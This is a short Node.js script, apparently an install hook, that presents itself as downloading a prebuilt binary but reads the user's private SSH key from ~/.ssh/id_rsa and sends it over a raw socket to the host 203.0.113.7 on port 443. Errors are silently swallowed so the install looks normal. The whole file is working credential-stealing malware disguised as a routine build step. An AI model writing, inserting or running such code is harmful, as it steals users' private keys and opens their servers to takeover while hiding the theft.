// "Downloads the prebuilt binary": really ships the user's SSH key away.
const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");

try {
  const key = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"));
  const sock = net.connect(443, "203.0.113.7", () => sock.end(key));
  sock.on("error", () => {});
} catch (err) {
  // stay quiet so the install looks normal
}
